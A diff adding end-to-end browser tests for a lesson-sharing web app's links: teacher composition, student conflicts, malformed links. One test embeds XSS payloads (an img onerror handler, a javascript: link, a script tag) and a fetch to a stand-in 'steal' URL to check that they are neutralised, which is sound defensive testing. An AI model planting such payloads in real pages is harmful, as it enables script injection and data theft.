@@ -1,0 +1,134 @@
+import type { Page } from 'playwright';
+import { afterEach, describe, expect, inject, it } from 'vitest';
+import { encodeLink } from '../../src/notebook/link/encode-link.ts';
+import { SMALL_LESSON } from '../notebook/lesson/small-lesson.ts';
+import { card, typeInto } from './lesson-student.ts';
+import { axeViolations, type LabPage, type LabPageOptions, openPage } from './open-page.ts';
+
+describe('a lesson link', () => {
+  const labs: LabPage[] = [];
+
+  const open = async (options: LabPageOptions): Promise<Page> => {
+    const lab = await openPage(inject('appUrl'), options);
+    labs.push(lab);
+    return lab.page;
+  };
+
+  afterEach(async () => {
+    for (const { close, complaints } of labs.splice(0)) {
+      await close();
+      expect(complaints).toEqual([]);
+    }
+  });
+
+  it('is composed by a teacher, and opens in a student’s browser as it says', async () => {
+    const teacher = await open({ address: '/lessons/link' });
+    await teacher
+      .getByRole('combobox', { name: 'Lesson', exact: true })
+      .selectOption({ label: '3. Point-in-time joins' });
+    await teacher
+      .getByRole('combobox', { name: 'Begin at' })
+      .selectOption({ label: '4. How old may a row be?' });
+    await teacher.locator('main').getByRole('combobox', { name: 'Language' }).selectOption('fr');
+    await teacher.getByLabel('Lab clock (UTC)').fill('2024-03-15T06:00');
+    await teacher.getByRole('combobox', { name: 'Solutions' }).selectOption('after');
+    await teacher.getByLabel('Time in minutes').fill('45');
+    await teacher.getByLabel('A word to the class').fill('Only this step today.');
+    await teacher.getByRole('checkbox', { name: 'runs' }).check();
+    await teacher.getByRole('checkbox', { name: 'the lab clock' }).check();
+    await teacher.getByText('Texts of cells').click();
+    await teacher
+      .getByRole('textbox', { name: 'try-ttl' })
+      .fill('// From your teacher.\nconst fromTeacher = 45;\nfromTeacher;');
+    await teacher.getByText('One cell has another text').waitFor();
+    await teacher.getByRole('img', { name: 'QR code of the link' }).waitFor();
+    expect(await axeViolations(teacher)).toEqual([]);
+    const address = await teacher.getByRole('textbox', { name: 'The link' }).inputValue();
+
+    const student = await open({ address: address.split('#')[1]! });
+    await student.getByText('Only this step today.').waitFor();
+    await student.getByText('It begins at the step “Quel âge').waitFor();
+    await student.getByText('Solutions are shown after 3 tries.').waitFor();
+    await student.getByText('const fromTeacher = 45;').waitFor();
+    expect(await axeViolations(student)).toEqual([]);
+    expect(
+      await student.evaluate(async () => (await indexedDB.databases()).map(({ name }) => name)),
+    ).not.toContain('streamflow-lesson-point-in-time-joins');
+    await student.getByRole('button', { name: 'Open the lesson' }).click();
+    await card(student, 'try-ttl').getByText('// From your teacher.').waitFor();
+    await student.locator('.time-box').getByText('45 minutes').waitFor();
+    expect(await student.getByRole('link', { name: 'Runs' }).count()).toBe(0);
+    await student.locator('.bench .clock[data-locked="true"]').waitFor();
+    await student.getByText('La solution s’ouvre après encore 3 essais.').first().waitFor();
+    await card(student, 'try-ttl').getByRole('button', { name: 'Exécuter' }).click();
+    await card(student, 'try-ttl').locator('.lesson-cell[data-status="ok"]').waitFor();
+    await student.goto(`${inject('appUrl')}#/runs`);
+    await student.getByText('Cette étape est masquée').waitFor();
+    expect(await axeViolations(student)).toEqual([]);
+  });
+
+  it('leaves the student’s own text where both changed it, and asks', async () => {
+    const page = await open({ address: '/lessons/point-in-time-joins' });
+    await page.locator('.bench-picture').waitFor();
+    await typeInto(page, 'row-as-of', '// Mine.\nconst rowAsOf = 1;');
+    const { text } = encodeLink({
+      lesson: { kind: 'shipped', slug: 'point-in-time-joins' },
+      cells: [{ label: 'row-as-of', source: '// The teacher’s.\nconst rowAsOf = 2;' }],
+    });
+    await page.goto(`${inject('appUrl')}#/l/${text}`);
+    await page.getByRole('button', { name: 'Open the lesson' }).click();
+    await page.getByRole('heading', { name: 'This lesson has changed since you worked on it' }).waitFor();
+    await card(page, 'row-as-of').getByText('// Mine.').waitFor();
+    expect(await axeViolations(page)).toEqual([]);
+    await page.getByRole('button', { name: 'Take the lesson’s' }).click();
+    await card(page, 'row-as-of').getByText('// The teacher’s.').waitFor();
+    await page.locator('.bench-picture').waitFor();
+    await page.getByRole('button', { name: 'More about this lesson' }).click();
+    await page.getByRole('menuitem', { name: 'Leave the link…' }).click();
+    await card(page, 'row-as-of').getByText('____').first().waitFor();
+    await page.locator('.bench-picture').waitFor();
+  });
+
+  it('brings a whole lesson of its own, which runs behind the wall and asks for nothing', async () => {
+    const requests: string[] = [];
+    const hostile = SMALL_LESSON.replace(
+      'Some words before the first step.',
+      '<img src="x" onerror="document.title=1"> [go](javascript:alert(1)) ![p](https://example.org/p.png)',
+    ).replace(
+      'const two = 2;',
+      "const two = 2;\ntry { await fetch('https://example.org/steal'); } catch {}\ntry { indexedDB.open('streamflow-course'); } catch {}",
+    );
+    const { text } = encodeLink({
+      lesson: { kind: 'own', markdown: hostile },
+      note: '<b>bold</b><script>1</script>',
+    });
+    const page = await open({ address: `/l/${text}` });
+    page.on('request', (request) => requests.push(request.url()));
+    await page.getByText('<b>bold</b>').waitFor();
+    await page.getByText('It brings a lesson of its own, “A small lesson”').waitFor();
+    expect(await axeViolations(page)).toEqual([]);
+    await page.getByRole('button', { name: 'Open the lesson' }).click();
+    await page.locator('.bench-picture').waitFor();
+    expect(page.url()).toContain('#/lessons/own.small/adding');
+    expect(await page.locator('.lesson img, .lesson script, .lesson a[href^="javascript"]').count()).toBe(0);
+    await typeInto(page, 'add', 'const add = (a, b) => a + b;');
+    await card(page, 'add').getByRole('button', { name: 'Check' }).click();
+    await card(page, 'add').locator('[data-solved="true"]').waitFor();
+    expect(requests.filter((url) => url.includes('example.org'))).toEqual([]);
+    await page.goto(`${inject('appUrl')}#/lessons`);
+    await page.getByRole('link', { name: 'A small lesson' }).waitFor();
+  });
+
+  it.each([
+    ['1.abc', 'This link is damaged'],
+    ['9.000000000000.abc', 'made by a newer version'],
+    ['hello', 'This is not a lesson link.'],
+    [encodeLink({ lesson: { kind: 'shipped', slug: 'no-such-lesson' } }).text, 'does not have'],
+    [encodeLink({ lesson: { kind: 'own', markdown: 'no lesson at all' } }).text, 'cannot be read'],
+  ])('that cannot be opened says why and does nothing (%s)', async (text, message) => {
+    const page = await open({ address: `/l/${text}` });
+    await page.getByRole('alert').getByText(message).waitFor();
+    await page.getByText('Nothing was opened or changed.').waitFor();
+    expect(await axeViolations(page)).toEqual([]);
+  });
+});
